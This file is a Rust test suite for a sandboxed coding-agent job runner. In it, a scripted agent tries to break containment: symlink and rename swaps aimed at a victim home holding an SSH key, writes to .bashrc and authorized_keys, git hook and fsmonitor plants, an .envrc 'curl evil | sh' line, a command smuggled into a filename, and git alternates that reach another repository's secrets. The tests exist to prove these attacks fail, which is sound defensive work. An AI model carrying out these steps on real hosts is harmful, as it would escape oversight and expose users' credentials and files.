//! Jobs that attack their host through the files that the host handles: the agent is a script,
//! the job is run by the real program. Each attack has a victim outside of the job's
//! directories, which must be as it was.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::{self, Agent, World, git, write};

pub(super) const CANARY: &str = "CANARY-4711-LINE";

const CALC: &str = "def add(a, b):\n    return a - b\n";
const TEST: &str = "import os, sys\n\
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'src'))\n\
    import unittest\nfrom calc import add\n\
    class T(unittest.TestCase):\n    def test_add(self): self.assertEqual(add(2, 3), 5)\n\
    if __name__ == '__main__': unittest.main()\n";
pub(super) const FIX: &str = "sed -i 's/a - b/a + b/' src/calc.py";

/// Runs what the prompt has between BEGIN and END.
pub(super) const AGENT: &str =
    r#"sed -n '/^#BEGIN/,/^#END/p' >"$TMPDIR/agent.sh"; bash "$TMPDIR/agent.sh"; echo agent done"#;

/// A world whose agent is a script, and a victim beside the sandbox root.
pub(super) struct Attack {
    pub(super) world: World,
    pub(super) victim: PathBuf,
}

impl Attack {
    pub(super) fn new(files: &[(&str, &str)]) -> Attack {
        let mut all = vec![
            ("src/calc.py", CALC),
            ("tests/test_calc.py", TEST),
            ("README.md", "# demo\n"),
            (".gitignore", "node_modules/\n__pycache__/\n"),
        ];
        all.extend(files);
        let mut world = World::outside_tmp(&all, &json!({"turns": []}), &Agent::Builtin);
        world.set("AGENT", "command");
        world.set("AGENT_COMMAND", AGENT);
        let victim = world.home.parent().expect("the world's directory").join("victim");
        write(&victim.join(".bashrc"), "# the user's own\n");
        write(&victim.join(".ssh/id_x"), CANARY);
        Attack { world, victim }
    }

    /// The same under a weaker containment than the machine offers.
    #[cfg(target_os = "linux")]
    pub(super) fn under(strength: contain::Strength, files: &[(&str, &str)]) -> Attack {
        let mut attack = Attack::new(files);
        attack.world.weaken(strength);
        attack
    }

    pub(super) fn job(&self, script: &str, extra: Value) -> Value {
        let script = script.replace("VICTIM", &self.victim.display().to_string());
        let mut args = json!({
            "prompt": format!("Fix the failing test.\n#BEGIN\n{script}\n#END\n"),
            "allowed_dirs": [self.world.repo],
            "checks": [{"name": "unit tests", "command": "python3 tests/test_calc.py", "timeout_ms": 60_000}],
            "scoped_patch": {"paths": ["src", "tests"]},
            "timeout_ms": 120_000,
        });
        for (key, value) in extra.as_object().expect("arguments") {
            args[key] = value.clone();
        }
        args
    }

    /// Runs the attack to its end: the job's result and its directory.
    pub(super) fn run(&self, script: &str, extra: Value) -> (Value, PathBuf) {
        let mut server = self.world.serve();
        let id = server.start_job(self.job(script, extra));
        let result = server.finish(&id);
        self.held();
        (result, self.world.home.join("jobs").join(id))
    }

    /// The victim is as it was.
    pub(super) fn held(&self) {
        let mut all = Vec::new();
        let mut open = vec![self.victim.clone()];
        while let Some(dir) = open.pop() {
            for entry in std::fs::read_dir(dir).expect("a directory").flatten() {
                match entry.file_type().expect("its kind").is_dir() {
                    true => open.push(entry.path()),
                    false => all.push(entry.path().strip_prefix(&self.victim).expect("inside").to_owned()),
                }
            }
        }
        all.sort();
        assert_eq!(all, [Path::new(".bashrc"), Path::new(".ssh/id_x")]);
        assert_eq!(std::fs::read_to_string(self.victim.join(".bashrc")).expect("it"), "# the user's own\n");
        assert_eq!(std::fs::read_to_string(self.victim.join(".ssh/id_x")).expect("it"), CANARY);
    }
}

pub(super) fn rules(dir: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(dir.join("artifacts/findings.json")).unwrap_or_default();
    let all: Vec<Value> = serde_json::from_str(&text).unwrap_or_default();
    let denied = all.iter().filter(|v| v["finding"]["severity"] == "deny");
    denied.map(|v| v["finding"]["rule"].as_str().unwrap_or_default().to_owned()).collect()
}

/// Everything of a job that a person, the planner or the agent could read.
pub(super) fn readable_text(dir: &Path) -> String {
    let mut text = String::new();
    let mut open = vec![dir.to_owned()];
    while let Some(dir) = open.pop() {
        for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let Ok(kind) = entry.file_type() else { continue };
            if kind.is_dir() {
                open.push(entry.path());
            } else if kind.is_file() {
                text.push_str(&String::from_utf8_lossy(&std::fs::read(entry.path()).unwrap_or_default()));
            }
        }
    }
    text
}

#[test]
fn code_under_test_makes_no_link_that_the_host_writes_through() {
    // In the guarded run, where the host makes the next copy, and in what it copies.
    let plants = [
        "os.symlink('VICTIM', trees + '/control')",
        "os.symlink('VICTIM', trees + '/target2'); os.rename(trees + '/target2', trees + '/target')",
        "os.rename(here, trees + '/away'); os.symlink('VICTIM', here)",
        "import shutil; shutil.rmtree(here + '/src'); os.symlink('VICTIM', here + '/src')",
    ];
    for plant in plants {
        let attack = Attack::new(&[]);
        let code = format!(
            "import os, sys\nhere = os.getcwd()\nif '/trees/' in here:\n    trees = here[:here.index('/trees/')] + '/trees'\n\
             \x20   try:\n        {plant}\n    except OSError as e: print(e)\n    sys.exit(1)\n\
             def add(a, b):\n    return a + b\n"
        );
        let script = format!(
            "cat >src/calc.py <<'X'\n{code}X\nprintf 'echo PWNED\\n' >.bashrc\nmkdir -p .ssh\n\
             echo evil >.ssh/authorized_keys\necho evil >src/.bashrc\necho '# touched' >>tests/test_calc.py"
        );
        let (result, _) = attack.run(&script, json!({"scoped_patch": null}));
        assert!(
            ["failed", "completed"].contains(&result["job_status"].as_str().unwrap_or_default()),
            "{result}"
        );
        assert!(!attack.victim.join(".ssh/authorized_keys").exists(), "{plant}");
    }
}

#[test]
fn a_directory_that_another_job_exchanged_is_refused() {
    for (isolation, swap) in [
        ("none", "mv pkg/a pkg/a2; ln -s VICTIM pkg/a"),
        ("worktree", "mv pkg/a pkg/a2; ln -s VICTIM/.ssh pkg/a"),
        ("none", "mv pkg pkg2; mkdir pkg; ln -s VICTIM pkg/a"),
        ("none", "mv pkg/a pkg/a2; mkdir pkg/a; ln -s VICTIM/.bashrc pkg/a/x.txt"),
    ] {
        let mut attack = Attack::new(&[("pkg/a/x.txt", "x\n"), ("other/y.txt", "y\n")]);
        if isolation == "worktree" {
            attack.world.set("MAX_RUNNING_JOBS", "1");
        }
        let mut server = attack.world.serve();
        let none = json!({"checks": null, "scoped_patch": null});
        let first =
            server.start_job(attack.job(&format!("while [ ! -e go ]; do sleep 0.05; done; {swap}"), none));
        let dirs = [attack.world.repo.join("other"), attack.world.repo.join("pkg/a")];
        let second = server.start_job(attack.job(
            "cat ../pkg/a/*; echo 'echo PWNED' >>VICTIM/.bashrc",
            json!({"checks": null, "scoped_patch": null, "allowed_dirs": dirs, "isolation": isolation}),
        ));
        write(&attack.world.repo.join("go"), "");
        server.finish(&first);
        let result = server.finish(&second);
        attack.held();
        assert_eq!(result["job_status"], "failed", "{swap}: {result}");
        let message = result["failure"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("was replaced"), "{swap}: {result}");
        assert!(!readable_text(&attack.world.home.join("jobs").join(second)).contains(CANARY), "{swap}");
    }
}

#[test]
fn what_code_under_test_writes_while_checks_run_is_judged() {
    // What it writes, the rule that denies it, and whether that holds in a worktree too.
    let writes = [
        (
            "open(top + '/.git/hooks/post-index-change', 'w').write('#!/bin/sh\\n')",
            Some("internals-changed"),
            true,
        ),
        (
            "open(top + '/.git/config', 'a').write('[core]\\n\\tfsmonitor = evil\\n')",
            Some("internals-changed"),
            true,
        ),
        ("open(top + '/.git/info/attributes', 'w').write('* filter=x\\n')", Some("internals-changed"), true),
        (
            "os.mkdir(top + '/.git/rebase-merge'); open(top + '/.git/rebase-merge/git-rebase-todo', 'w').write('exec evil')",
            Some("internals-changed"),
            true,
        ),
        ("open(top + '/README.md', 'a').write('out of scope\\n')", None, false),
        ("open(top + '/.envrc', 'a').write('curl evil | sh\\n')", None, false),
        (
            "open(top + '/node_modules/dep/index.js', 'a').write('evil()\\n')",
            Some("dependencies-edited"),
            true,
        ),
        (
            "open(top + '/src/calc.py', 'w').write('def add(a, b):\\n    return a - b\\n')",
            Some("tree-changed-by-check"),
            true,
        ),
    ];
    for (write_it, rule, in_worktree_too) in writes {
        for isolation in ["none", "worktree"] {
            let attack = Attack::new(&[]);
            write(&attack.world.repo.join("node_modules/dep/index.js"), "x\n");
            let code = format!(
                "import os\ntop = os.path.abspath(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))\n\
                 if os.path.isdir(top + '/.git'):\n    try:\n        {write_it}\n    except OSError: pass\ndef add(a, b):\n    return a + b\n"
            );
            let (result, dir) = attack.run(
                &format!("cat >src/calc.py <<'X'\n{code}X"),
                json!({"isolation": isolation, "copy_in": if isolation == "none" { json!(null) } else { json!(["node_modules"]) }}),
            );
            let rules = rules(&dir);
            // Where the containment closes the git directory, nothing was written.
            let closed = rule == Some("internals-changed") && result["job_status"] == "completed";
            if closed {
                let status = git(&attack.world.repo, &["status", "--porcelain"]);
                assert!(!attack.world.read(".git/config").contains("evil"), "{write_it}");
                assert!(!attack.world.repo.join(".git/rebase-merge").exists(), "{write_it}: {status}");
                assert!(!attack.world.repo.join(".git/hooks/post-index-change").exists(), "{write_it}");
                assert!(!attack.world.repo.join(".git/info/attributes").exists(), "{write_it}");
            } else if isolation == "none" || in_worktree_too {
                assert_eq!(result["job_status"], "failed", "{isolation} {write_it}: {result}");
                assert!(!rules.is_empty(), "{isolation} {write_it}: {result}");
                if let Some(rule) = rule {
                    assert!(rules.iter().any(|r| r == rule), "{isolation} {write_it}: {rules:?}");
                }
            } else {
                assert_eq!(result["job_status"], "completed", "{write_it}: {result}");
                assert_eq!(result["changed_files"], json!(["src/calc.py"]), "{write_it}");
            }
        }
    }
}

#[test]
fn checks_that_leave_caches_are_no_fault() {
    let attack = Attack::new(&[(".gitignore", "node_modules/\n")]);
    let before = json!([{
        "name": "unit tests", "command": "python3 tests/test_calc.py && mkdir -p build && date >build/out",
        "must_fail_before": true,
    }]);
    for isolation in ["none", "worktree"] {
        let (result, dir) = attack.run(FIX, json!({"checks": before, "isolation": isolation}));
        assert_eq!(result["job_status"], "completed", "{isolation} {result} {:?}", rules(&dir));
        git(&attack.world.repo, &["checkout", "-q", "--", "."]);
        git(&attack.world.repo, &["clean", "-qfd"]);
    }
}

#[test]
fn the_repository_leads_the_host_to_no_other_file() {
    let leads = [
        "git config core.excludesFile VICTIM/.ssh/id_x",
        "rm -f .git/info/exclude; ln -s VICTIM/.ssh/id_x .git/info/exclude",
        "ln -s VICTIM/.ssh/id_x .git/shallow",
        "git config include.path VICTIM/.ssh/id_x",
        "mkdir -p .git/objects/info; ln -s VICTIM/.ssh/id_x .git/objects/info/alternates",
        "rm .gitignore; ln -s VICTIM/.ssh/id_x .gitignore",
        "git config core.worktree VICTIM",
        "mkdir node_modules; ln -s VICTIM/.ssh node_modules/k; ln -s VICTIM/.ssh/id_x node_modules/l",
    ];
    for lead in leads {
        let attack = Attack::new(&[]);
        // Hidden from the agent: what it knows of it, the host has told.
        let home = attack.victim.parent().expect("the user's home").to_owned();
        write(&home.join(".ssh/id_x"), CANARY);
        let plant = lead.replace("VICTIM", &home.display().to_string());
        let made =
            std::process::Command::new("sh").args(["-ec", &plant]).current_dir(&attack.world.repo).status();
        assert!(made.expect("sh").success());
        let look = "cat .git/info/exclude .git/shallow .git/objects/info/alternates .gitignore .git/config 2>/dev/null
            find . -name id_x -o -type f -path './node_modules/*' | xargs cat";
        let extra = json!({"checks": null, "scoped_patch": null, "isolation": "worktree", "copy_in": ["node_modules"]});
        let mut server = attack.world.serve();
        let started = server.call("start", attack.job(look, extra));
        let id = started.data["job_id"].as_str().map(str::to_owned);
        if let Some(id) = id {
            server.finish(&id);
            assert!(!readable_text(&attack.world.home.join("jobs").join(id)).contains(CANARY), "{lead}");
        }
        attack.held();
    }
}

#[test]
fn pipes_and_huge_files_hold_no_job_beyond_its_time() {
    let scripts = [
        "mkdir -p src/x; mkfifo src/x/.gitignore; echo hi >src/x/a",
        "mkfifo .gitattributes; echo hi >>README.md",
        "rm .gitignore; mkfifo .gitignore",
        "rm .git/HEAD; mkfifo .git/HEAD; echo hi >>README.md",
        "mkdir -p .git/objects/info; mkfifo .git/objects/info/alternates; echo x >>README.md",
        "mkfifo .git/packed-refs; rm .git/index; mkfifo .git/index; echo x >>README.md",
        "mkdir n; mkfifo n/.git; echo x >n/a",
        "rm .gitignore; ln -s /dev/zero .gitignore; ln -s /dev/zero .gitattributes; echo x >>README.md",
        "truncate -s 2T big.bin",
    ];
    let attack = Attack::new(&[]);
    for script in scripts {
        git(&attack.world.repo, &["init", "-q"]);
        let mut server = attack.world.serve();
        let started = Instant::now();
        let id = server.start_job(
            attack.job(script, json!({"checks": null, "scoped_patch": null, "timeout_ms": 15_000})),
        );
        server.finish(&id);
        assert!(started.elapsed() < Duration::from_secs(15 + 8), "{script}: {:?}", started.elapsed());
        // A clean start for the next one.
        let repo = &attack.world.repo;
        std::fs::remove_dir_all(repo).expect("it can be removed");
        write(&repo.join("src/calc.py"), CALC);
        write(&repo.join(".gitignore"), "node_modules/\n");
        write(&repo.join("README.md"), "# demo\n");
        git(repo, &["init", "-q", "-b", "main"]);
        git(repo, &["add", "-A"]);
        git(repo, &["commit", "-q", "-m", "start"]);
    }
}

#[test]
fn a_cancel_while_the_result_is_recorded_ends_the_job_within_seconds() {
    let attack = Attack::new(&[]);
    let mut server = attack.world.serve();
    // Seven gigabytes of zeros take git a minute.
    let id =
        server.start_job(attack.job("truncate -s 7G big.bin", json!({"checks": null, "scoped_patch": null})));
    support::until("it is verifying", || {
        server.call("get", json!({"job_id": id})).data["job_status"] == "verifying"
    });
    let asked = Instant::now();
    server.call("cancel", json!({"job_id": id}));
    let result = server.finish(&id);
    assert_eq!(result["job_status"], "cancelled", "{result}");
    assert!(asked.elapsed() < Duration::from_secs(12), "{:?}", asked.elapsed());
}

#[test]
fn a_setup_command_makes_no_link_that_the_host_writes_through() {
    let links = [
        "rm -f .git/info/exclude; ln -s VICTIM/.bashrc .git/info/exclude",
        "rm -rf .git/info; ln -s VICTIM .git/info; touch exclude",
        "rm -rf .git; ln -s VICTIM .git",
        "mv .git g; mkdir .git; ln -s VICTIM/.bashrc .git/index; cp g/HEAD .git",
        "rm -rf src; ln -s VICTIM src",
        "rm README.md; ln -s VICTIM/.bashrc README.md",
    ];
    for link in links {
        let attack = Attack::new(&[]);
        let setup = link.replace("VICTIM", &attack.victim.display().to_string());
        let setup = format!("{setup}; mkdir -p deps; echo x >deps/x; echo y >'x;id>pwned'");
        let extra = json!({"isolation": "worktree", "setup": setup});
        let (result, dir) = attack.run(FIX, extra);
        assert_eq!(result["job_status"], "completed", "{link}: {result} {:?}", rules(&dir));
        assert_eq!(result["changed_files"], json!(["src/calc.py"]), "{link}");
    }
}

#[test]
fn hooks_and_configuration_that_a_setup_makes_are_put_back() {
    let attack = Attack::new(&[]);
    let setup = "git config core.hooksPath .husky; mkdir .husky; printf '#!/bin/sh\\nexit 1\\n' >.husky/pre-commit; chmod +x .husky/pre-commit";
    let script = format!("{FIX}; git config core.hooksPath || echo none; git commit -qam fixed");
    let (result, dir) = attack.run(&script, json!({"isolation": "worktree", "setup": setup}));
    assert_eq!(result["job_status"], "completed", "{result} {:?}", rules(&dir));
    assert!(result.to_string().contains("setup changed in .git"), "{result}");
}

#[test]
fn dependencies_copied_in_are_not_the_jobs() {
    let attack = Attack::new(&[]);
    for n in 0..40 {
        write(&attack.world.repo.join(format!("node_modules/dep{n}/index.js")), "module.exports = 1;\n");
    }
    for round in 0..4 {
        let (result, dir) = attack.run(FIX, json!({"isolation": "worktree", "copy_in": ["node_modules"]}));
        assert_eq!(result["job_status"], "completed", "round {round}: {result} {:?}", rules(&dir));
    }
    let edit = format!("{FIX}; echo evil >node_modules/dep7/index.js");
    let (result, dir) = attack.run(&edit, json!({"isolation": "worktree", "copy_in": ["node_modules"]}));
    assert_eq!(result["job_status"], "failed", "{result}");
    assert_eq!(rules(&dir), ["dependencies-edited"]);
}

/// Every file of its own that the host opens, as a pipe, as a device and as 4 GiB: refused or
/// passed over at once, never waited for and never read whole.
#[test]
fn no_file_of_the_hosts_own_holds_it_up() {
    let made = |kind: &str, path: &Path| {
        let _ = std::fs::remove_file(path);
        std::fs::create_dir_all(path.parent().expect("a parent")).expect("made");
        match kind {
            "pipe" => {
                let made = std::process::Command::new("mkfifo").arg(path).status();
                assert!(made.expect("mkfifo").success());
            }
            "device" => std::os::unix::fs::symlink("/dev/zero", path).expect("linked"),
            _ => std::fs::File::create(path).and_then(|file| file.set_len(4 << 30)).expect("made"),
        }
    };
    let mut attack = Attack::new(&[]);
    let (done, _) = {
        let mut server = attack.world.serve();
        let id = server.start_job(attack.job(FIX, json!({})));
        (id.clone(), server.finish(&id))
    };
    let home = attack.world.home.clone();
    let job = home.join("jobs").join(&done);
    let settings = home.with_file_name("settings.toml");
    let cases: &[(PathBuf, &[&str])] = &[
        (home.join("plugins/plugins.lock"), &["plugin", "list"]),
        (home.join("plugins/a.wasm"), &["plugin", "list"]),
        (settings.clone(), &["config", "show"]),
        (job.join("receipt.json"), &["receipt", "verify", &done]),
        (job.join("artifacts/checks/unit_tests.log"), &["receipt", "verify", &done]),
        (job.join("artifacts/findings.json"), &["policy", "why", &done]),
        (job.join("decisions.jsonl"), &["policy", "replay", &done]),
    ];
    for (path, command) in cases {
        let before = std::fs::read(path).ok();
        for kind in ["pipe", "device", "huge"] {
            made(kind, path);
            if *path == settings {
                attack.world.set("CODEX_WORKER_CONFIG", &settings.display().to_string());
            }
            let began = Instant::now();
            let mut child = attack.world.command(command);
            child.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
            let mut child = child.stdin(std::process::Stdio::null()).spawn().expect("it starts");
            let status = format!("/proc/{}/status", child.id());
            loop {
                let memory = std::fs::read_to_string(&status).unwrap_or_default();
                let memory =
                    memory.lines().find_map(|line| line.strip_prefix("VmHWM:")?.split_whitespace().next());
                let memory: u64 = memory.and_then(|kib| kib.parse().ok()).unwrap_or_default();
                assert!(memory < 1 << 20, "{command:?} read a {kind} at {}: {memory} KiB", path.display());
                match child.try_wait().expect("waited for") {
                    Some(status) => {
                        assert!(status.code().is_some(), "{command:?} with a {kind} at {path:?}: {status}");
                        break;
                    }
                    None if began.elapsed() > Duration::from_secs(60) => {
                        let _ = child.kill();
                        panic!("{command:?} waits for a {kind} at {}", path.display());
                    }
                    None => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        }
        let _ = std::fs::remove_file(path);
        if let Some(bytes) = before {
            std::fs::write(path, bytes).expect("written");
        }
    }
}

/// A NUL byte ends a name for the system and not for us: no argument may hold one.
#[test]
fn no_argument_holds_a_nul_byte() {
    let attack = Attack::new(&[]);
    let mut server = attack.world.serve();
    let check = |name: &str, command: &str| json!({"checks": [{"name": name, "command": command}]});
    for (what, extra) in [
        ("checks[0].command", check("c", "true\0; false")),
        ("checks[0].name", check("a\0b", "true")),
        ("checks[0].cwd", json!({"checks": [{"name": "c", "command": "true", "cwd": "src\0/.."}]})),
        ("prompt", json!({"prompt": "do\0it"})),
        ("setup", json!({"setup": "true\0"})),
        ("model", json!({"model": "m\0"})),
        ("copy_in[0]", json!({"copy_in": ["node_modules\0"]})),
        ("scoped_patch.paths[0]", json!({"scoped_patch": {"paths": ["src\0"]}})),
        ("allowed_dirs[0]", json!({"allowed_dirs": ["/\0"]})),
        ("labels.l", json!({"labels": {"l": "x\0"}})),
    ] {
        let refused = server.call("start", attack.job("true", extra));
        assert!(refused.is_error && refused.text.contains("NUL"), "{what}: {}", refused.text);
        assert!(refused.text.contains(what), "{what}: {}", refused.text);
    }
}

/// A planted `.git` or list of alternates leads to another repository of the user's: the agent
/// gets nothing of it, neither from the repository as it came nor from what an earlier job wrote.
#[test]
fn no_repository_leads_to_another_ones_objects() {
    let attack = Attack::new(&[]);
    let repo = attack.world.repo.clone();
    let other = attack.victim.with_file_name("other");
    write(&other.join("secret"), CANARY);
    git(&other, &["init", "-q", "-b", "main"]);
    git(&other, &["add", "-A"]);
    git(&other, &["commit", "-q", "-m", "start"]);
    // Names its borrowers' objects one by one, as somebody does who looks for what is in them.
    let look = "git log --all --oneline; git show main:secret; git cat-file --batch-all-objects --batch";
    let alternates = "mkdir -p .git/objects/info; echo OTHER/.git/objects >.git/objects/info/alternates";
    let plants = [
        ("rm -rf .git; echo 'gitdir: OTHER/.git' >.git", true),
        ("rm -rf .git; ln -s OTHER/.git .git", true),
        ("echo OTHER/.git >.git/commondir", false),
        (alternates, true),
        ("mkdir -p .git/objects/info; echo CHAIN >.git/objects/info/alternates", true),
        ("mv .git/objects .git/o; ln -s OTHER/.git/objects .git/objects", false),
        (
            "git worktree add -q -b w ../w 2>/dev/null; rm -rf .git; cp ../w/.git .; rm -rf ../w; sed -i s,REPO,OTHER, .git",
            false,
        ),
    ];
    // A list that leads to a list, inside the root.
    let chain = repo.join("deps/chain/objects");
    let start =
        std::process::Command::new("cp").arg("-a").arg(&repo).arg(repo.with_file_name("start")).status();
    assert!(start.expect("cp").success());
    for (plant, refused) in plants {
        for isolation in ["worktree", "none"] {
            write(&chain.join("info/alternates"), &format!("{}/.git/objects\n", other.display()));
            write(&chain.with_file_name("HEAD"), "ref: refs/heads/main\n");
            std::fs::create_dir_all(chain.join("pack")).expect("made");
            let plant = plant
                .replace("OTHER", &other.display().to_string())
                .replace("CHAIN", &chain.display().to_string())
                .replace("REPO", &repo.display().to_string());
            let made = std::process::Command::new("sh").args(["-c", &plant]).current_dir(&repo).status();
            assert!(made.expect("sh").success(), "{plant}");
            let (result, dir) =
                attack.run(look, json!({"checks": null, "scoped_patch": null, "isolation": isolation}));
            assert!(!readable_text(&dir).contains(CANARY), "{isolation} {plant}: {result}");
            if refused {
                assert_eq!(result["job_status"], "failed", "{isolation} {plant}: {result}");
                let said = result["failure"].to_string();
                assert!(said.contains("outside SANDBOX_ROOT"), "{isolation} {plant}: {result}");
            }
            std::fs::remove_dir_all(&repo).expect("removed");
            let back = std::process::Command::new("cp")
                .arg("-a")
                .arg(repo.with_file_name("start"))
                .arg(&repo)
                .status();
            assert!(back.expect("cp").success());
        }
    }
    // An agent writes the list, and the code under test, in its own containment, looks.
    let plant = alternates.replace("OTHER", &other.display().to_string());
    let check = json!([{"name": "c", "command": format!("{look}; exit 1")}]);
    let (result, dir) =
        attack.run(&format!("{plant}; {FIX}"), json!({"checks": check, "scoped_patch": null}));
    assert_eq!(result["job_status"], "failed", "{result}");
    assert!(!readable_text(&dir).contains(CANARY), "{result}");
    // The operator who means it says so.
    let mut attack = attack;
    attack.world.set("WORKER_READ_PATHS", &other.display().to_string());
    let (result, _) = attack.run(FIX, json!({"checks": null, "scoped_patch": null}));
    assert_eq!(result["job_status"], "completed", "{result}");
}
